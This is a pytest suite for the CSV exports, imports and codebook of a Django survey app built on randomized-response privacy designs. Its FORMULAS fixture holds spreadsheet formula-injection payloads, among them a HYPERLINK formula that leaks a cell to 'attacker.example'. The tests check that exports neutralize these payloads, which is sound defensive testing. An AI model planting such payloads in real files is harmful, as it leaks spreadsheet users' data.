"""Exports and imports shared by the pages, the API and the management commands."""

from __future__ import annotations

import csv
import io
import math
import uuid
from decimal import Decimal

import numpy as np
import pytest
from django.core.management import CommandError, call_command

from analysis.exports import estimates_csv
from analysis.results import survey_results
from responses.counts import survey_counts
from responses.exports import response_rows, responses_csv
from responses.imports import MAX_REPORTED_ERRORS, ImportRejected, import_responses
from responses.write import bulk_record, record_submission, simulate_respondents
from survey import spreadsheets
from survey.codebook import codebook
from survey.models import Survey, new_slug
from tests.storage import nothing_stored, stored_count

pytestmark = pytest.mark.django_db


def csv_file(text: str) -> io.BytesIO:
    return io.BytesIO(text.encode())


def answer(survey: Survey, *values: int) -> None:
    ids = list(survey.questions.values_list("id", flat=True))
    record_submission(survey, uuid.uuid4(), dict(zip(ids, values, strict=True)))


def test_rows_follow_question_order_not_creation_order(make_survey):
    survey = make_survey(n_questions=2)
    first, second = survey.questions.all()
    second.position, first.position = 0, 1
    second.save()
    first.save()
    answer(survey, 1, 0)  # ids in position order: second → 1, first → 0
    assert list(response_rows(survey)) == [["round", "q1", "q2"], [1, 1, 0]]


def test_the_export_never_contains_simulated_answers(make_survey):
    survey = make_survey(n_questions=1)
    simulate_respondents(survey, 100, 0.5, np.random.default_rng(4))
    answer(survey, 1)
    assert responses_csv(survey) == "round,q1\n1,1\n"


def test_the_codebook_says_no_privacy_for_an_infinite_epsilon(make_survey):
    survey = make_survey(n_questions=1)
    survey.questions.update(design_name="mirrored", design_params={"p": 1.0})
    book = codebook(survey)
    assert (book["epsilon_total"], book["no_privacy"]) == (None, True)
    assert book["questions"][0]["epsilon"] is None


def test_a_bom_and_blank_lines_are_tolerated(make_survey):
    survey = make_survey(n_questions=1)
    assert import_responses(survey, csv_file("\ufeffq1\n1\n\n0\n")) == 2


def test_errors_stop_after_a_limit(make_survey):
    survey = make_survey(n_questions=1)
    text = "q1\n" + "7\n" * 500
    with pytest.raises(ImportRejected) as rejected:
        import_responses(survey, csv_file(text))
    assert len(rejected.value.errors) == MAX_REPORTED_ERRORS
    assert nothing_stored()


def test_a_survey_without_questions_accepts_no_import(make_survey):
    survey = make_survey(n_questions=0)
    with pytest.raises(ImportRejected, match="no questions"):
        import_responses(survey, csv_file("round\n1\n"))


def test_estimates_csv_leaves_missing_values_empty(make_survey):
    survey = make_survey(n_questions=1)
    text = estimates_csv(survey_results(survey))
    header, row = text.splitlines()
    assert header.startswith(
        "question,text,kind,option,option_text,n,n_simulated,skipped,yes_count"
    )
    assert ",0,0,0,,,," in row


def test_estimates_csv_says_how_many_answers_are_simulated(make_survey):
    """The responses file leaves them out, so the estimates file must say they are in n."""
    survey = make_survey(n_questions=1)
    simulate_respondents(survey, 40, 0.3, np.random.default_rng(1))
    record_submission(survey, uuid.uuid4(), {survey.questions.get().id: 1})
    rows = list(csv.DictReader(io.StringIO(estimates_csv(survey_results(survey)))))
    assert (rows[0]["n"], rows[0]["n_simulated"]) == ("41", "40")


def test_simulate_responses_adds_marked_answers(make_survey, capsys):
    survey = make_survey(n_questions=2)
    call_command(
        "simulate_responses", str(survey.id), "--n", "300", "--true-rate", "0.2", "--seed", "1"
    )
    assert stored_count(survey, simulated=True) == 300
    assert "Added 300 simulated respondents" in capsys.readouterr().out
    estimate = survey_results(survey).questions[0].estimate
    # 300 reports: the estimate is within 4.9 standard errors (p < 1e-6) of the truth.
    assert abs(estimate.estimate_unbiased - 0.2) < 4.9 * estimate.std_error


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--n", "0", "--true-rate", "0.2"], "--n must be at least 1"),
        (["--n", "5", "--true-rate", "1.2"], "--true-rate must be between 0 and 1"),
    ],
)
def test_simulate_responses_rejects_bad_arguments(survey, args, message):
    with pytest.raises(CommandError, match=message):
        call_command("simulate_responses", str(survey.id), *args)
    assert nothing_stored()


def test_commands_find_a_survey_by_slug_or_join_code_and_refuse_unknown_ones(survey, tmp_path):
    path = tmp_path / "dice.csv"
    path.write_text("q1\n1\n0\n")
    call_command("import_responses", survey.slug, str(path))
    call_command("import_responses", survey.join_code.lower(), str(path))
    assert stored_count(survey) == 4
    with pytest.raises(CommandError, match="no single survey"):
        call_command("import_responses", "nope", str(path))


def test_a_slug_never_starts_with_a_dash_that_a_command_line_would_take_for_an_option():
    assert not any(new_slug().startswith("-") for _ in range(3000))


def test_import_responses_lists_bad_lines_and_stores_nothing(survey, tmp_path):
    path = tmp_path / "dice.csv"
    path.write_text("q1\n1\nyes\n0\n3\n")
    with pytest.raises(CommandError) as error:
        call_command("import_responses", str(survey.id), str(path))
    assert "line 3: q1 must be 0 or 1" in str(error.value)
    assert "line 5: q1 must be 0 or 1" in str(error.value)
    assert nothing_stored()


def test_import_responses_reports_an_unreadable_file(survey, tmp_path):
    with pytest.raises(CommandError, match="cannot read"):
        call_command("import_responses", str(survey.id), str(tmp_path / "missing.csv"))


def test_the_demo_spreads_its_simulated_answers_over_twelve_hours():
    call_command("seed_demo", "--responses", "120", stdout=io.StringIO())
    research = Survey.objects.get(mode="research")
    counts = survey_counts(research)
    for question in research.questions.all():
        hours = counts.hours(question.id)
        assert len(hours) == 12
        assert sum(h.tally.count + h.tally.skipped for h in hours) == 120
        assert [h.tally.count for h in hours] == [h.tally.simulated for h in hours]


# Spreadsheets: text is never run as a formula, numbers stay numbers ------------------------

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?leak="&A1, "Click for results")',
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def estimates_rows(survey: Survey) -> list[dict[str, str]]:
    text = estimates_csv(survey_results(survey))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_a_question_text_that_starts_a_formula_gets_an_apostrophe(make_survey, text):
    survey = make_survey(n_questions=1)
    survey.questions.update(text=text)
    (row,) = estimates_rows(survey)
    assert row["text"] == "'" + text
    assert codebook(survey)["questions"][0]["text"] == text  # the exact text


def test_a_carriage_return_inside_a_text_is_quoted_not_a_line_break(make_survey):
    survey = make_survey(n_questions=2)
    survey.questions.update(text="Line one\rline two")
    rows = estimates_rows(survey)
    assert [row["text"] for row in rows] == ["Line one\rline two"] * 2


def test_ordinary_text_is_written_as_it_is(make_survey):
    survey = make_survey(n_questions=1)
    survey.questions.update(text="Did you ever use a = b + c as a crib?")
    assert estimates_rows(survey)[0]["text"] == "Did you ever use a = b + c as a crib?"


def test_a_negative_estimate_stays_a_number_for_r_and_pandas(make_survey):
    """Number columns are never prefixed: a spreadsheet's formula risk is in text."""
    import pandas as pd

    survey = make_survey(n_questions=1)
    survey.questions.update(text="=1+1")
    question = survey.questions.get().id
    for _ in range(8):
        record_submission(survey, uuid.uuid4(), {question: 0})
    text = estimates_csv(survey_results(survey))
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["estimate_unbiased"] == "-0.5"  # (0 - 1/4) / (1/2)
    frame = pd.read_csv(io.StringIO(text))
    assert frame["estimate_unbiased"].dtype == float
    assert frame["estimate_unbiased"][0] == -0.5
    assert frame["n"][0] == 8
    assert frame["text"][0] == "'=1+1"


def test_the_codebook_explains_the_apostrophe(survey):
    note = codebook(survey)["csv_text_cells"]
    assert "apostrophe" in note and "=, +, -, @" in note


def test_the_responses_csv_holds_only_numbers(make_survey):
    survey = make_survey(n_questions=2)
    survey.questions.update(text="=HYPERLINK(1)")
    answer(survey, 1, 0)
    header, *rows = csv.reader(io.StringIO(responses_csv(survey)))
    assert header == ["round", "q1", "q2"]
    assert all(cell.isdigit() for row in rows for cell in row)


def test_an_invite_token_never_starts_with_a_formula_character(monkeypatch):
    from survey import models

    drawn = iter(["-HYPERLINK", "-1-1", "fine-token"])
    monkeypatch.setattr(models.secrets, "token_urlsafe", lambda n: next(drawn))
    assert models.new_invite_token() == "fine-token"


def test_invite_csvs_hold_no_formula(survey):
    from survey.models import Invite

    tokens = Invite.create_batch(survey, 3000)
    assert not [t for t in tokens if t.startswith(spreadsheets.FORMULA_STARTS)]


# Numbers as R and pandas read them ---------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (0.19499999999999995, "0.195"),
        (1 / 3, "0.333333333333"),
        (-0.5, "-0.5"),
        (1e-7 / 3, "3.33333333333e-08"),
        (0.95, "0.95"),
        (7, 7),
        (None, ""),
    ],
)
def test_floats_are_written_to_12_significant_digits(value, cell):
    assert spreadsheets.number_cell(value) == cell


def test_the_estimates_csv_keeps_the_numbers_to_12_digits(make_survey):
    survey = make_survey(n_questions=1)
    simulate_respondents(survey, 997, 0.3, np.random.default_rng(7))
    answer(survey, 1)
    exact = survey_results(survey).as_dict()["questions"][0]
    (row,) = estimates_rows(survey)
    for key in ("raw_yes_rate", "estimate", "std_error", "ci_low", "ci_high", "epsilon"):
        assert len(Decimal(row[key]).normalize().as_tuple().digits) <= 12
        assert float(row[key]) == pytest.approx(exact[key], rel=1e-11, abs=1e-15)


# --- Every kind of question ----------------------------------------------------------------

YEARS = ["first year", "second year", "later"]


@pytest.fixture
def mixed(owner) -> Survey:
    """One question of each kind: crosswise, a die, k-RR, Laplace, a direct choice."""
    survey = Survey.objects.create(owner=owner, title="Student life", status=Survey.Status.OPEN)
    for position, (kind, options, name, params) in enumerate(
        [
            ("binary", [], "crosswise", {"p": 0.25}),
            (
                "choice",
                ["never", "once", "often"],
                "forced_response",
                {"p_forced": [0.2, 0.3, 0.5]},
            ),
            ("choice", ["a", "b", "c", "d"], "k_rr", {"epsilon": 1.5}),
            ("number", [], "laplace", {"epsilon": 1.0, "lower": 0, "upper": 30}),
            ("choice", YEARS, "direct", {}),
        ]
    ):
        survey.questions.create(
            position=position,
            text=f"Question {position + 1}?",
            kind=kind,
            options=options,
            design_name=name,
            design_params=params,
        )
    return survey


def test_the_export_has_an_index_per_choice_an_integer_per_number_and_blanks(mixed):
    answer(mixed, 1, 2, 3, -7, 0)
    ids = list(mixed.questions.values_list("id", flat=True))
    record_submission(mixed, uuid.uuid4(), {ids[0]: 0, ids[4]: 2})  # a no-JS respondent
    bulk = {ids[0]: 1, ids[1]: 0, ids[2]: 0, ids[3]: 12, ids[4]: 1}
    bulk_record(mixed, [bulk] * 5, simulated=True)
    lines = responses_csv(mixed).splitlines()
    assert lines[0] == "round,q1,q2,q3,q4,q5"
    assert sorted(lines[1:]) == ["1,0,,,,2", "1,1,2,3,-7,0"]


def test_the_codebook_gives_every_question_what_re_analysis_needs(mixed):
    book = codebook(mixed)
    crosswise, die, krr, laplace, direct = book["questions"]
    assert (book["asked_directly"], book["no_privacy"]) == (1, False)
    designs = [q.design for q in mixed.questions.all()]
    assert book["epsilon_total"] == pytest.approx(sum(d.epsilon for d in designs[:4]))
    for entry, design in zip(book["questions"], designs, strict=True):
        assert entry["design"] == {"name": design.name, **design.params()}
        assert entry["direct"] is not design.randomized
    # Binary and choice: the full response matrix, columns summing to 1, and RRreg's call.
    assert crosswise["response_matrix"]["values"] == [[0.25, 0.75], [0.75, 0.25]]
    assert (crosswise["t"], crosswise["forced"]) == (-0.5, [0.75, 0.75])
    assert crosswise["rrreg"] == 'RRreg::RRuni(1 - response, model = "FR", p = c(0.25, 0.25))'
    assert crosswise["values"] == {"0": "reported no", "1": "reported yes"}
    assert die["options"] == ["never", "once", "often"]
    assert die["values"] == {"0": "never", "1": "once", "2": "often"}
    matrix = np.array(die["response_matrix"]["values"])
    assert matrix.sum(axis=0) == pytest.approx([1, 1, 1])
    assert matrix == pytest.approx(designs[1].response_matrix)
    assert die["forced"] == pytest.approx([0.1, 0.15, 0.25])
    assert die["t"] == pytest.approx(0.5)
    assert die["rrreg"] == 'RRreg::RRuni(response, model = "FR", p = c(0.1, 0.15, 0.25))'
    assert krr["epsilon"] == pytest.approx(1.5)
    assert krr["t"] + sum(krr["forced"]) == pytest.approx(1)
    assert len(krr["response_matrix"]["values"]) == 4
    # Numbers: bounds, ε, α and the reachable reports.
    assert (laplace["lower"], laplace["upper"], laplace["epsilon"]) == (0, 30, 1.0)
    assert laplace["alpha"] == pytest.approx(math.exp(-1 / 30))
    assert laplace["noise_variance"] == pytest.approx(designs[3].noise_variance)
    assert laplace["outputs"]["min_report"] == -designs[3].max_distance
    # Direct: no ε, said so, nothing to de-randomize.
    assert (direct["epsilon"], direct["no_privacy"], direct["not_sensitive"]) == (None, True, True)
    assert direct["rrreg"] is None
    assert direct["response_matrix"]["values"] == np.eye(3).tolist()


def test_re_analysis_from_the_export_and_codebook_matches_the_app(mixed):
    """The recipe of the README: shares of each option, minus c, over t."""
    rng = np.random.default_rng(11)
    questions = list(mixed.questions.all())
    truths = rng.choice(3, size=400, p=[0.5, 0.3, 0.2])
    reports = questions[1].design.simulate(truths, rng)
    for value in reports:
        answer(mixed, 1, int(value), 0, 5, 0)
    book = codebook(mixed)["questions"][1]
    column = [int(row["q2"]) for row in csv.DictReader(io.StringIO(responses_csv(mixed)))]
    shares = np.bincount(column, minlength=3) / len(column)
    by_hand = (shares - np.array(book["forced"])) / book["t"]
    se = np.sqrt(np.diag(np.diag(shares) - np.outer(shares, shares)) / len(column)) / book["t"]
    app = questions[1].design.estimate(np.bincount(reports, minlength=3))
    assert by_hand == pytest.approx(app.estimate_unbiased)
    assert se == pytest.approx(app.std_errors)


def test_a_number_questions_mean_from_the_export_matches_the_app(mixed):
    rng = np.random.default_rng(12)
    number = mixed.questions.get(kind="number")
    reports = number.design.simulate(rng.integers(0, 31, size=300), rng)
    for value in reports:
        answer(mixed, 1, 0, 0, int(value), 0)
    column = [int(row["q4"]) for row in csv.DictReader(io.StringIO(responses_csv(mixed)))]
    stats = (len(column), sum(column), sum(v * v for v in column))
    app = number.design.estimate(stats)
    assert np.mean(column) == pytest.approx(app.estimate_unbiased)
    assert np.std(column, ddof=1) / math.sqrt(len(column)) == pytest.approx(app.std_error)


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("2,0,0,0,0", "q1 must be 0 or 1 (1 = yes), got '2'"),
        ("1,3,0,0,0", "q2 must be an option index from 0 to 2 (0 = 'never'), got '3'"),
        ("1,-1,0,0,0", "q2 must be an option index from 0 to 2"),
        ("1,1.0,0,0,0", "q2 must be an option index from 0 to 2 (0 = 'never'), got '1.0'"),
        ("1,once,0,0,0", "got 'once'"),
        ("1,0,4,0,0", "q3 must be an option index from 0 to 3"),
        ("1,0,0,5000,0", "q4 must be a whole number from -"),
        ("1,0,0,7.5,0", "q4 must be a whole number"),
        ("1,0,0,1e3,0", "got '1e3'"),
        ("1,0,0,99999999999999999999,0", "q4 must be a whole number"),
        ("1,0,0,0,3", "q5 must be an option index from 0 to 2 (0 = 'first year'), got '3'"),
    ],
)
def test_every_value_is_checked_against_its_design_and_nothing_is_stored(mixed, row, message):
    text = f"q1,q2,q3,q4,q5\n1,0,0,0,0\n{row}\n"
    with pytest.raises(ImportRejected) as rejected:
        import_responses(mixed, csv_file(text))
    errors = rejected.value.errors
    assert [error.line for error in errors] == [3]
    assert message in errors[0].message
    assert nothing_stored()
    assert nothing_stored()


def test_a_number_report_out_of_reach_says_which_bound_applies(mixed):
    design = mixed.questions.get(kind="number").design
    edge = design.upper + design.max_distance
    assert import_responses(mixed, csv_file(f"q1,q2,q3,q4,q5\n1,0,0,{edge},0\n")) == 1
    with pytest.raises(ImportRejected) as rejected:
        import_responses(mixed, csv_file(f"q1,q2,q3,q4,q5\n1,0,0,{edge + 1},0\n"))
    message = rejected.value.errors[0].message
    assert f"from {design.lower - design.max_distance} to {edge}" in message
    assert "probability at least 1e-12" in message
    assert stored_count() == 1


def test_blank_cells_import_as_unanswered(mixed):
    assert import_responses(mixed, csv_file("q1,q2,q3,q4,q5\n1,,,,2\n0,1,2,-3,0\n")) == 2
    assert responses_csv(mixed).count("\n") == 3


def test_the_command_names_row_and_column_for_every_kind(mixed, tmp_path):
    path = tmp_path / "paper.csv"
    path.write_text("q1,q2,q3,q4,q5\n1,2,3,4,0\n1,7,0,0,0\n")
    with pytest.raises(CommandError) as error:
        call_command("import_responses", str(mixed.id), str(path))
    assert "line 3: q2 must be an option index from 0 to 2" in str(error.value)
    assert nothing_stored()


def test_the_codebook_lists_wording_changes_made_after_answers(make_survey):
    survey = make_survey(n_questions=1)
    question = survey.questions.get()
    original = question.text
    answer(survey, 1)
    question.reword("Have you ever copied answers in an exam?")
    (entry,) = codebook(survey)["questions"]
    (change,) = entry["wording_history"]
    assert change["old_text"] == original
    assert change["new_text"] == "Have you ever copied answers in an exam?"
    assert change["hour"].endswith(":00:00+00:00")


def test_the_estimates_csv_has_a_row_per_option_and_a_mean_row(mixed):
    for values in ([1, 0, 2, 3, 1], [0, 2, 1, 5, 0], [1, 1, 0, -2, 2]):
        answer(mixed, *values)
    text = estimates_csv(survey_results(mixed))
    rows = list(csv.DictReader(io.StringIO(text)))
    kinds = [row["kind"] for row in rows]
    questions = {q.id: q for q in mixed.questions.all()}
    choice = [row for row in rows if row["kind"] == "choice"]
    assert kinds.count("binary") == 1 and kinds.count("number") == 1
    assert len(choice) == sum(len(q.options) for q in questions.values() if q.kind == "choice")
    first = next(q for q in questions.values() if q.kind == "choice")
    mine = [row for row in choice if int(row["question"]) == first.id]
    assert [row["option_text"] for row in mine] == first.options
    assert sum(int(row["yes_count"]) for row in mine) == 3
    (mean,) = (row for row in rows if row["kind"] == "number")
    assert float(mean["estimate_unbiased"]) == pytest.approx(6 / 3)


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_breakdowns_csv_neutralizes_question_and_option_text(owner, text):
    """breakdowns.csv wrote question and option texts raw; it now goes through the one
    CSV writer like every other file."""
    from analysis.grouped import breakdowns_csv
    from tests.analysis.analysis_data import analysis_survey, fill

    survey = analysis_survey(owner)
    survey.questions.filter(text="Ever cheated?").update(text=text)
    faculty = survey.questions.get(text="Faculty?")
    faculty.options = [text, "Law", "Science", "Medicine"]
    faculty.save(update_fields=["options"])
    fill(survey, [30, 30, 30, 30])
    rows = list(csv.DictReader(io.StringIO(breakdowns_csv(survey, 0.95, "wilson"))))
    texts = {row["question_text"] for row in rows} | {row["category_text"] for row in rows}
    assert "'" + text in texts
    starts = spreadsheets.FORMULA_STARTS
    assert not [t for t in texts if t.startswith(starts)]
